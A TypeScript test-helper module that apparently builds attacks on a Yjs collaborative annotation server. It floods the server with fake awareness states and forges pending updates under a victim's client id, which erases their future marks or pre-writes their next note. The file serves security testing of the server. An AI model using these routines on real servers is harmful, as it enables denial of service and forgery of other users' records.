/**
 * Attacks on a shared annotation layer by a peer allowed to open it: awareness floods, and the two
 * Yjs pending-update attacks (an update about items the server does not have yet, which Yjs would
 * keep and apply later: erasing the chair's next marks, pre-writing another person's next note).
 * The pending-update builders rehearse the victim's next change on a replica with the victim's
 * client id, as in tests/unit/collab/mark-authorship.test.ts.
 */
import * as encoding from 'lib0/encoding';
import * as syncProtocol from 'y-protocols/sync';
import WebSocket from 'ws';
import * as Y from 'yjs';
import { addMark, pageMarks, removeMarks, type MarkInit } from '../../../renderer/src/features/annotations/mark-model';

const MESSAGE_SYNC = 0;
const MESSAGE_AWARENESS = 1;

/** A y-websocket connection that speaks raw messages (what a modified client can send). */
export async function rawCollab(url: string, token: string, docName: string): Promise<{ ws: WebSocket; closed: Promise<{ code: number; reason: string }>; received: { bytes: number } }> {
  const ws = new WebSocket(`${url.replace(/^http/, 'ws')}/collab/${docName}`, { headers: { authorization: `Bearer ${token}` } });
  const received = { bytes: 0 };
  ws.on('message', (d: Buffer) => (received.bytes += d.length));
  ws.on('error', () => undefined);
  const closed = new Promise<{ code: number; reason: string }>((resolve) => ws.once('close', (code, reason) => resolve({ code, reason: reason.toString() })));
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('close', (code) => reject(new Error(`closed before opening: ${code}`)));
  });
  return { ws, closed, received };
}

/** One awareness message with states for `clients` made-up client ids, `stateBytes` each. */
export function awarenessMessage(firstClient: number, clients: number, clock: number, stateBytes: number): Uint8Array {
  const inner = encoding.createEncoder();
  encoding.writeVarUint(inner, clients);
  const state = JSON.stringify({ user: { name: 'Đại biểu', color: '#d62828' }, cursor: 'x'.repeat(stateBytes) });
  for (let i = 0; i < clients; i++) {
    encoding.writeVarUint(inner, firstClient + i);
    encoding.writeVarUint(inner, clock);
    encoding.writeVarString(inner, state);
  }
  const outer = encoding.createEncoder();
  encoding.writeVarUint(outer, MESSAGE_AWARENESS);
  encoding.writeVarUint8Array(outer, encoding.toUint8Array(inner));
  return encoding.toUint8Array(outer);
}

export interface AwarenessFloodResult {
  messages: number;
  bytes: number;
  /** How the server ended the flooding connection, if it did. */
  close: { code: number; reason: string } | null;
}

/**
 * Sends awareness updates as fast as `messagesPerSecond` allows for `seconds`: each one announces
 * `clientsPerMessage` new client ids with `stateBytes` of state (a peer may claim any number).
 */
export async function floodAwareness(url: string, token: string, docName: string, o: { seconds: number; messagesPerSecond: number; clientsPerMessage: number; stateBytes: number }): Promise<AwarenessFloodResult> {
  const { ws, closed } = await rawCollab(url, token, docName);
  let close: AwarenessFloodResult['close'] = null;
  void closed.then((c) => (close = c));
  let messages = 0;
  let bytes = 0;
  const end = Date.now() + o.seconds * 1000;
  const base = 1_000_000 + Math.floor(Math.random() * 1_000_000_000);
  while (Date.now() < end && close === null) {
    const tickEnd = Date.now() + 100;
    for (let i = 0; i < o.messagesPerSecond / 10 && close === null; i++) {
      const m = awarenessMessage(base + (messages % 1000) * o.clientsPerMessage, o.clientsPerMessage, 1 + Math.floor(messages / 1000), o.stateBytes);
      if (ws.readyState !== ws.OPEN) break;
      ws.send(m);
      messages++;
      bytes += m.length;
    }
    await new Promise((r) => setTimeout(r, Math.max(0, tickEnd - Date.now())));
  }
  if (close === null) {
    ws.close();
    await closed;
  }
  return { messages, bytes, close };
}

/** A sync "update" message carrying `update`. */
export function updateMessage(update: Uint8Array): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, MESSAGE_SYNC);
  syncProtocol.writeUpdate(e, update);
  return encoding.toUint8Array(e);
}

/** A replica of `of` as it is now, whose own client id is `victim`: the victim's next changes can be rehearsed on it. */
function rehearsal(of: Y.Doc, victim: number): Y.Doc {
  const ghost = new Y.Doc();
  Y.applyUpdate(ghost, Y.encodeStateAsUpdate(of));
  ghost.clientID = victim;
  return ghost;
}

/**
 * Attack 1: deletions of the victim's next `count` marks (clocks the server does not have yet).
 * `view` is the attacker's synced copy of the layer; the update carries no items, only deletions.
 */
export function eraseFutureMarks(view: Y.Doc, victim: { clientId: number; accountId: string; displayName: string }, versionId: string, page: number, count: number): Uint8Array {
  const ghost = rehearsal(view, victim.clientId);
  const ids = new Set<string>();
  for (let i = 0; i < count; i++) {
    const id = `ghost-${i}`;
    ids.add(id);
    addMark(ghost, versionId, page, { id, author: victim.accountId, authorName: victim.displayName, tool: 'pen', color: '#d62828', width: 0.0025, points: [0.1, 0.1, 0.2, 0.2] }, null);
  }
  removeMarks(ghost, versionId, page, ids, null);
  return Y.diffUpdate(Y.encodeStateAsUpdate(ghost), Y.encodeStateVector(ghost));
}

/**
 * Attack 2: the text of the victim's next note (`note`, as the victim will write it), overwritten
 * from the attacker's own replica: an item whose neighbour the server does not have yet.
 */
export function prewriteNextNote(view: Y.Doc, victimClientId: number, versionId: string, page: number, note: MarkInit, forgedText: string): Uint8Array {
  const ghost = rehearsal(view, victimClientId);
  addMark(ghost, versionId, page, note, null);
  const atk = new Y.Doc();
  Y.applyUpdate(atk, Y.encodeStateAsUpdate(ghost));
  const before = Y.encodeStateVector(atk);
  const marks = pageMarks(atk, versionId, page);
  marks.get(marks.length - 1).set('text', forgedText);
  return Y.encodeStateAsUpdate(atk, before);
}

/** The client id that made the first mark of `accountId` on that page of `view` (visible to every reader). */
export function clientIdOf(view: Y.Doc, versionId: string, page: number, accountId: string): number {
  for (const m of pageMarks(view, versionId, page).toArray()) {
    if (m.get('author') === accountId && m._item) return m._item.id.client;
  }
  throw new Error(`no mark of ${accountId} on the page`);
}
